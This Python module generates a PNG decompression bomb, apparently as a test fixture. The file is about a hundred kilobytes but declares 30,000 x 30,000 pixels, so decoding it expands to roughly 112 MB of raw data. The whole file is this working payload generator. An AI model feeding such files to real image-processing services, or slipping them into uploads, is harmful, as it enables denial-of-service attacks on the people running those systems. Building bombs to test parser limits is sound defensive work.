"""A PNG of 30,000 x 30,000 black pixels in about a hundred kilobytes."""

from __future__ import annotations

import functools
import struct
import zlib

SIDE = 30_000
_ROW = bytes(1 + SIDE // 8)  # no filter, one bit a pixel
_ROWS_AT_ONCE = 1_000


@functools.cache
def png_bomb() -> bytes:
    packer = zlib.compressobj(9)
    rows = _ROW * _ROWS_AT_ONCE
    packed = b"".join(packer.compress(rows) for _ in range(SIDE // _ROWS_AT_ONCE))
    header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(name, content)
        for name, content in ((b"IHDR", header), (b"IDAT", packed + packer.flush()), (b"IEND", b""))
    )


def _chunk(name: bytes, content: bytes) -> bytes:
    checked = name + content
    return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))
